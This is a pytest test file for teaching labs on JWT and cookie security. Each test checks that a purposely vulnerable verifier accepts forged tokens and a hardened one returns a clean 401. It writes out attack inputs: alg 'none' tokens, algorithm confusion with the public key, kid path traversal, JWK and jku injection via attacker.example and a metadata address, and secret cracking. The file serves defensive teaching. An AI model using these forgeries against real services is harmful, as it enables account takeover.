"""Notebook 05's labs: every attack gets in on its vulnerable target and is refused, cleanly,
by the hardened one.

If a "vulnerable" test here fails, a lab no longer shows the bug it is about and the
notebook would be teaching something false. If a "hardened" test fails, that is a real
regression: the hardened flow accepted an attack or answered it with a 5xx.
"""

from __future__ import annotations

import ast
import inspect

import jwt
import pytest

from authdemo import Secret, in_process_client
from authdemo.labs import checklist, cracking, forging, naive_apps, naive_verifiers as naive
from authdemo.labs.cookies import SetCookie, browser_rules, jar_sends
from authdemo.labs.demo_keys import (ATTACKER_PRIVATE_PEM, ATTACKER_PUBLIC_PEM,
                                     SERVER_PRIVATE_PEM, SERVER_PUBLIC_PEM)
from authdemo.labs.pinned_verifiers import KeyRing, RS256Verifier
from authdemo.labs.world import PRETEND_FILES, FakeInternet, read_pretend_file
from authdemo.sessions.signing import encode_cookie_value
from authdemo.teaching import TeachingClock
from authdemo.tokens import InvalidToken
from authdemo.vulnerable_seed import SEED_SECRET

pytestmark = pytest.mark.filterwarnings("ignore::jwt.warnings.InsecureKeyLengthWarning")

ATTACK_IDS = [attack.__name__ for _, attack, _, _ in checklist.ATTACKS]


@pytest.fixture
def targets(clock):
    return checklist.Targets(clock)


def rs_claims(targets, **changes):
    return targets.claims(**{"iss": "rs256-service", **changes})


# --- the checklist: every row, both sides -------------------------------------------------------
@pytest.mark.parametrize("entry", checklist.ATTACKS, ids=ATTACK_IDS)
def test_each_attack_gets_in_on_the_vulnerable_side_and_is_refused_cleanly(entry, targets):
    name, attack, defence, reference = entry
    vulnerable, hardened = attack(targets)
    assert vulnerable.accepted, vulnerable
    assert not hardened.accepted, hardened
    if hardened.status is not None:
        assert 400 <= hardened.status < 500, hardened  # a clean refusal, never a 5xx
    checklist.Row(name, vulnerable, hardened, defence, reference).check()


def test_the_checklist_is_the_same_on_every_run():
    tables = []
    for _ in range(2):
        with TeachingClock() as clock:
            tables.append(checklist.markdown_table(checklist.run_checklist(clock)))
    assert tables[0] == tables[1]
    assert len(tables[0].splitlines()) == 2 + len(checklist.ATTACKS)


def test_every_row_has_all_eight_columns_filled(clock):
    for line in checklist.markdown_table(checklist.run_checklist(clock)).splitlines()[2:]:
        cells = [cell.strip() for cell in line.strip("|").split("|")]
        assert len(cells) == 8 and all(cells), line


def test_row_check_rejects_a_5xx_on_the_hardened_side():
    ok = checklist.Outcome("naive", True, "200")
    row = checklist.Row("x", ok, checklist.Outcome("hardened", False, "500", 500), "",
                        checklist.Reference("", "", "", ""))
    with pytest.raises(AssertionError):
        row.check()


# --- forging and cracking ------------------------------------------------------------------------
def test_make_token_matches_pyjwt_for_hs256():
    claims = {"sub": "alice", "n": 1}
    key = b"k" * 32
    assert forging.make_token({"alg": "HS256", "typ": "JWT"}, claims, key) == jwt.encode(
        claims, key, algorithm="HS256")


def test_tamper_keeps_header_and_signature():
    token = jwt.encode({"sub": "alice"}, "k" * 32, algorithm="HS256")
    forged = forging.tamper(token, sub="admin")
    assert forged.split(".")[0::2] == token.split(".")[0::2]
    assert forging.decode_json(forged.split(".")[1]) == {"sub": "admin"}


def test_cracker_finds_the_seed_key_and_counts_guesses():
    token = jwt.encode({"username": "alice"}, SEED_SECRET, algorithm="HS256")
    result = cracking.crack_hs256(token)
    assert result == cracking.CrackResult(SEED_SECRET, cracking.WORDLIST.index(SEED_SECRET) + 1)


@pytest.mark.parametrize("alg", ["HS256", "HS384", "HS512"])
def test_cracker_handles_every_hmac_size(alg):
    token = jwt.encode({"u": 1}, "keyboard cat", algorithm=alg)
    assert cracking.crack_hs256(token).secret == "keyboard cat"


def test_cracker_reports_every_guess_when_nothing_matches():
    token = jwt.encode({"u": 1}, checklist.JWT_KEY, algorithm="HS256")
    assert cracking.crack_hs256(token) == cracking.CrackResult(None, len(cracking.WORDLIST))


def test_session_cookie_cracker_reads_express_format():
    cookie = encode_cookie_value("some-id", Secret(SEED_SECRET))
    assert cracking.crack_session_cookie(cookie).secret == SEED_SECRET
    cookie = encode_cookie_value("some-id", Secret(checklist.SESSION_KEY))
    assert cracking.crack_session_cookie(cookie).secret is None


def test_keyspace_arithmetic():
    assert cracking.years_to_search(256, 1e12) > 1e50
    assert cracking.years_to_search(1, 1, fraction=1.0) == pytest.approx(2 / 31_557_600)


# --- naive verifiers (vulnerable on purpose) and their pinned counterparts ---------------------
def test_alg_none_in_any_case_passes_the_header_trusting_verifier(targets):
    for alg in checklist.ALG_NONE_SPELLINGS:
        token = forging.make_token({"alg": alg}, targets.claims(sub="carol"))
        assert naive.verify_trusting_header(token, b"irrelevant")["sub"] == "carol"


def test_header_trusting_verifier_still_checks_hmac_tokens(targets):
    token = forging.make_token({"alg": "HS256"}, targets.claims(), key=b"right" * 8)
    with pytest.raises(InvalidToken, match="bad signature"):
        naive.verify_trusting_header(token, b"wrong" * 8)


def test_pyjwt_refuses_a_pem_public_key_as_an_hmac_secret(targets):
    with pytest.raises(jwt.exceptions.InvalidKeyError):
        jwt.encode(rs_claims(targets), SERVER_PUBLIC_PEM, algorithm="HS256")
    confused = forging.make_token({"alg": "HS256"}, rs_claims(targets), key=SERVER_PUBLIC_PEM)
    with pytest.raises(jwt.exceptions.PyJWTError):  # even with both algorithms allowed
        jwt.decode(confused, SERVER_PUBLIC_PEM, algorithms=["HS256", "RS256"],
                   audience="authdemo-api")


def test_algorithm_confusion(targets):
    confused = forging.make_token({"alg": "HS256"}, rs_claims(targets, role="admin"),
                                  key=SERVER_PUBLIC_PEM)
    assert naive.verify_rs256_confused(confused, SERVER_PUBLIC_PEM)["role"] == "admin"
    with pytest.raises(InvalidToken, match="algorithm not allowed"):
        RS256Verifier(SERVER_PUBLIC_PEM).decode(confused)


def test_both_rs256_verifiers_accept_a_genuine_token(targets):
    genuine = forging.sign_rs256(rs_claims(targets), SERVER_PRIVATE_PEM)
    assert naive.verify_rs256_confused(genuine, SERVER_PUBLIC_PEM)["sub"] == "alice"
    assert RS256Verifier(SERVER_PUBLIC_PEM).decode(genuine)["sub"] == "alice"


def test_pinned_rs256_verifier_checks_claims(targets):
    for changes, reason in [({"aud": "other"}, "wrong audience"),
                            ({"iss": "other"}, "wrong issuer"),
                            ({"exp": None}, "missing required claim")]:
        token = forging.sign_rs256(rs_claims(targets, **changes), SERVER_PRIVATE_PEM)
        with pytest.raises(InvalidToken, match=reason):
            RS256Verifier(SERVER_PUBLIC_PEM).decode(token)


def test_kid_traversal_and_the_key_ring(targets):
    token = forging.make_token({"alg": "HS256", "kid": "../../../dev/null"},
                               targets.claims(role="admin"), key=b"")
    assert naive.verify_with_kid_file(token)["role"] == "admin"
    ring = KeyRing({"2026-01": PRETEND_FILES["/srv/app/keys/2026-01"]})
    with pytest.raises(InvalidToken, match="unknown key id"):
        ring.decode(token)
    good = forging.make_token({"alg": "HS256", "kid": "2026-01"}, targets.claims(),
                              key=PRETEND_FILES["/srv/app/keys/2026-01"])
    assert ring.decode(good)["sub"] == "alice" == naive.verify_with_kid_file(good)["sub"]


def test_pretend_files_never_touch_the_disk():
    assert read_pretend_file("/srv/app/keys/../../../dev/null") == b""
    with pytest.raises(FileNotFoundError):
        read_pretend_file("/etc/passwd")


def test_jwk_injection(targets):
    jwk = forging.public_jwk(ATTACKER_PUBLIC_PEM, "a")
    token = forging.sign_rs256(rs_claims(targets), ATTACKER_PRIVATE_PEM, kid="a", jwk=jwk)
    assert naive.verify_with_header_jwk(token)["sub"] == "alice"
    with pytest.raises(InvalidToken, match="bad signature"):
        RS256Verifier(SERVER_PUBLIC_PEM).decode(token)


def test_jku_injection_fetches_on_the_naive_side_only(targets):
    url = "https://attacker.example/jwks.json"
    internet = FakeInternet({url: {"keys": [forging.public_jwk(ATTACKER_PUBLIC_PEM, "k")]}})
    token = forging.sign_rs256(rs_claims(targets), ATTACKER_PRIVATE_PEM, kid="k", jku=url)
    assert naive.verify_with_jku(token, internet)["sub"] == "alice"
    assert internet.fetched == [url]
    internet.fetched.clear()
    with pytest.raises(InvalidToken):
        RS256Verifier(SERVER_PUBLIC_PEM).decode(token)
    assert internet.fetched == []


@pytest.mark.parametrize("verify", [
    naive.decode_without_verify,
    lambda t: naive.verify_trusting_header(t, b"k"),
    lambda t: naive.verify_rs256_confused(t, SERVER_PUBLIC_PEM),
    naive.verify_with_kid_file,
    naive.verify_with_header_jwk,
    lambda t: naive.verify_with_jku(t, FakeInternet()),
    RS256Verifier(SERVER_PUBLIC_PEM).decode,
    KeyRing({"k": b"k" * 32}).decode,
])
@pytest.mark.parametrize("garbage", ["", "a.b", "a.b.c", "e30.e30.", "W10.W10.x"])
def test_verifiers_turn_garbage_into_invalid_token(verify, garbage):
    try:
        verify(garbage)
    except InvalidToken:
        return
    assert verify is naive.decode_without_verify and garbage == "e30.e30."  # reads '{}' 


# --- the hardened app against hand-made tokens: always a clean 401 -----------------------------
def test_hardened_app_answers_every_forged_token_with_401(targets):
    client = targets.client(targets.hardened())
    claims = targets.claims(role="admin")
    tokens = [
        forging.make_token({"alg": "none"}, claims),
        forging.make_token({"alg": "HS256", "kid": "../../../dev/null"}, claims, key=b""),
        forging.make_token({"alg": "HS256"}, claims, key=SERVER_PUBLIC_PEM),
        forging.make_token({"alg": "HS512"}, claims, key=SEED_SECRET.encode()),
        forging.sign_rs256(claims, ATTACKER_PRIVATE_PEM,
                           jwk=forging.public_jwk(ATTACKER_PUBLIC_PEM, "a")),
        forging.sign_rs256(claims, ATTACKER_PRIVATE_PEM, jku="http://169.254.169.254/"),
        forging.make_token({"alg": "HS256", "crit": ["b64"], "b64": False}, claims,
                           key=checklist.JWT_KEY.encode()),
    ]
    for token in tokens:
        response = client.get("/jwt/me", headers=checklist.bearer(token))
        assert response.status_code == 401, (token, response.text)
        assert response.json()["error"] == "invalid_token"


def test_a_token_minted_with_the_lab_key_is_accepted(targets):
    """Guards the claim labs: their hardened 401s come from the claim, not from the key."""
    token = jwt.encode(targets.claims(), checklist.JWT_KEY, algorithm="HS256")
    response = targets.client(targets.hardened()).get("/jwt/me",
                                                      headers=checklist.bearer(token))
    assert response.status_code == 200


# --- naive apps ----------------------------------------------------------------------------------
def test_counter_ids_are_predictable():
    ids = naive_apps.counter_ids()
    assert [ids(), ids(), ids()] == ["sess-0001", "sess-0002", "sess-0003"]


def test_naive_advice_app_sets_an_httponly_cookie_without_samesite(clock):
    client = in_process_client(naive_apps.create_naive_advice_app(clock))
    cookie = SetCookie.parse(client.post("/jwt/login", json={"username": "a"}
                                         ).headers["set-cookie"])
    assert "httponly" in cookie.attributes and cookie.same_site is None


# --- cookies -------------------------------------------------------------------------------------
def test_jar_applies_secure_and_domain():
    assert jar_sends("a=1; Path=/", "https://h.example/", "http://h.example/")
    assert not jar_sends("a=1; Path=/; Secure", "https://h.example/", "http://h.example/")
    assert jar_sends("a=1; Path=/; Domain=demo.example", "https://x.demo.example/",
                     "https://app.demo.example/")
    assert not jar_sends("a=1; Path=/", "https://x.demo.example/", "https://app.demo.example/")


def test_browser_rules():
    assert browser_rules("a=1; HttpOnly", set_over_https=False).script_can_read is False
    assert browser_rules("a=1", set_over_https=False).script_can_read is True
    cross = {v: browser_rules(f"a=1; Secure; SameSite={v}", set_over_https=True
                              ).sent_on_cross_site_post for v in ("Strict", "Lax", "None")}
    assert cross == {"Strict": False, "Lax": False, "None": True}
    assert browser_rules("a=1", set_over_https=True).sent_on_cross_site_post is None
    assert browser_rules("a=1; SameSite=None", set_over_https=True
                         ).sent_on_cross_site_post is False  # None needs Secure
    host = "__Host-a=1; Path=/; Secure"
    assert browser_rules(host, set_over_https=True).host_prefix_accepted is True
    assert browser_rules(host, set_over_https=False).host_prefix_accepted is False
    assert browser_rules(host + "; Domain=x.example", set_over_https=True
                         ).host_prefix_accepted is False
    assert browser_rules("__Host-a=1; Path=/app; Secure", set_over_https=True
                         ).host_prefix_accepted is False


# --- labelling -----------------------------------------------------------------------------------
@pytest.mark.parametrize("module", [naive, naive_apps])
def test_vulnerable_modules_say_so(module):
    assert (module.__doc__ or "").startswith("VULNERABLE ON PURPOSE")


def test_every_naive_verifier_is_labelled_vulnerable():
    tree = ast.parse(inspect.getsource(naive))
    public = [node for node in tree.body
              if isinstance(node, ast.FunctionDef) and not node.name.startswith("_")]
    assert public and all("VULNERABLE" in (ast.get_docstring(f) or "") for f in public)


def test_demo_keys_are_labelled_demo_only():
    from authdemo.labs import demo_keys

    assert "DEMO-ONLY" in demo_keys.__doc__
